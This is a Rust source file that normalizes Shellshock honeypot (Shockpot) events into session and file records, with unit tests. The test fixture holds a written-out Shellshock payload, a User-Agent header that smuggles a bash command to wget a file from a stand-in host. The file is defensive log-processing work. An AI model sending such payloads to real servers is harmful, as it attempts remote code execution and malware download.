//! Shockpot (Shellshock honeypot): `shockpot.events`.

use super::fields::{self as f};
use super::Result;
use apiary_model::bounded::{MEDIUM, SHORT};
use apiary_model::{HttpRequest, Normalized, RawEvent};
use serde_json::Value;

/// `{method, url, path, query_string, headers: [[name, value]...], source_ip, dest_port,
///   dest_host, is_shellshock, command, command_data, timestamp}` → an `http` session with
/// the request (path + query), the Shellshock `command` in `commands`, URLs found in it in
/// `urls`, `is_shellshock` in `extra`; plus a file record for `command_data` (the content
/// shockpot fetched from the command's URL) when present.
///
/// Shockpot's `timestamp` is `str(datetime.now())` (sensor-local, zone unknown), so receipt
/// time is used. Fix against mnemosyne: `source_port` is unknown (`None`), not `0`.
pub fn events(raw: &RawEvent, out: &mut Vec<Normalized>) -> Result<()> {
    let o = f::json_object(raw)?;
    let mut s = f::new_session(raw, "shockpot", raw.received_at);
    s.source_ip = Some(f::source_ip(&o, "source_ip")?);
    s.destination_port = f::port(&o, "dest_port")?;
    s.protocol = Some("http".into());
    let dest_host = f::text_nonempty(&o, "dest_host", MEDIUM)?;
    s.destination_ip = dest_host.as_deref().and_then(apiary_model::event::parse_ip);
    let path = f::text_nonempty(&o, "path", MEDIUM)?;
    let query = f::text_nonempty(&o, "query_string", MEDIUM)?;
    let mut http = HttpRequest {
        method: f::text_nonempty(&o, "method", SHORT)?,
        path: match (path, query) {
            (Some(p), Some(q)) => Some(apiary_model::bounded::truncate(format!("{p}?{q}"), MEDIUM)),
            (p, _) => p.or(f::text_nonempty(&o, "url", MEDIUM)?),
        },
        ..Default::default()
    };
    for h in f::array_field(&o, "headers")?
        .iter()
        .take(apiary_model::bounded::MAX_ITEMS)
    {
        match h.as_array().map(Vec::as_slice) {
            Some([name, value, ..]) => {
                let name = f::text_value(name, "headers", SHORT)?.unwrap_or_default();
                let value = f::text_value(value, "headers", MEDIUM)?.unwrap_or_default();
                f::push_header(&mut http, &name, &value);
            }
            _ => {
                return Err(super::NormalizeError::BadField {
                    field: "headers",
                    reason: "expected [name, value] pairs",
                })
            }
        }
    }
    if http.host.is_none() {
        http.host = dest_host;
    }
    s.details.http = Some(http);
    if let Some(cmd) = f::text_nonempty(&o, "command", MEDIUM)? {
        s.details.urls = f::urls_in(&cmd);
        s.details.commands.push(cmd);
    }
    s.details.extra = f::extra(vec![(
        "is_shellshock",
        f::boolean(&o, "is_shellshock")?.map(Value::Bool),
    )]);
    let file = f::str_field(&o, "command_data")?
        .filter(|d| !d.is_empty())
        .map(|d| f::file_record(d.as_bytes().to_vec(), None, s.details.urls.first().cloned()));
    f::push_session(out, s);
    out.extend(file.map(Normalized::File));
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::super::NormalizeError;
    use apiary_model::{HttpRequest, Normalized, Session, SessionDetails};
    use serde_json::json;

    const SAMPLE: &str = r#"{"method": "GET", "url": "http://203.0.113.5/cgi-bin/test.cgi", "path": "/cgi-bin/test.cgi", "query_string": "",
 "headers": [["User-Agent", "() { :; }; /bin/bash -c \"wget http://198.51.100.9/x\""], ["Host", "203.0.113.5"]],
 "source_ip": "198.51.100.7", "dest_port": "80", "dest_host": "203.0.113.5", "is_shellshock": true,
 "command": "/bin/bash -c \"wget http://198.51.100.9/x\"", "command_data": null,
 "timestamp": "2019-06-20 12:00:00.123456"}"#;

    #[test]
    fn shellshock() {
        let ua = "() { :; }; /bin/bash -c \"wget http://198.51.100.9/x\"";
        let s = one_session("shockpot.events", SAMPLE);
        assert_eq!(
            s,
            Session {
                timestamp: received(),
                source_ip: ip("198.51.100.7"),
                source_port: None,
                destination_ip: ip("203.0.113.5"),
                destination_port: Some(80),
                protocol: Some("http".into()),
                honeypot: "shockpot".into(),
                channel: "shockpot.events".into(),
                details: SessionDetails {
                    http: Some(HttpRequest {
                        method: Some("GET".into()),
                        path: Some("/cgi-bin/test.cgi".into()),
                        host: Some("203.0.113.5".into()),
                        user_agent: Some(ua.into()),
                        headers: vec![
                            ("user-agent".into(), ua.into()),
                            ("host".into(), "203.0.113.5".into())
                        ],
                        body: None,
                    }),
                    commands: vec!["/bin/bash -c \"wget http://198.51.100.9/x\"".into()],
                    urls: vec!["http://198.51.100.9/x".into()],
                    extra: Some(json!({"is_shellshock": true})),
                    ..Default::default()
                },
                ..Default::default()
            }
        );
    }

    #[test]
    fn command_data_is_a_file() {
        let mut p: serde_json::Value = serde_json::from_str(SAMPLE).unwrap();
        p["command_data"] = json!("#!/bin/sh\necho pwned\n");
        p["query_string"] = json!("a=1");
        let out = run("shockpot.events", p.to_string());
        assert_eq!(out.len(), 2);
        let Normalized::Session(s) = &out[0] else {
            panic!()
        };
        assert_eq!(
            s.details.http.as_ref().unwrap().path.as_deref(),
            Some("/cgi-bin/test.cgi?a=1")
        );
        let Normalized::File(file) = &out[1] else {
            panic!()
        };
        assert_eq!(file.content_guess.as_deref(), Some("script"));
        assert_eq!(file.url.as_deref(), Some("http://198.51.100.9/x"));
        p["headers"] = json!([["only-name"]]);
        assert!(matches!(
            fail("shockpot.events", p.to_string()),
            NormalizeError::BadField {
                field: "headers",
                ..
            }
        ));
    }
}
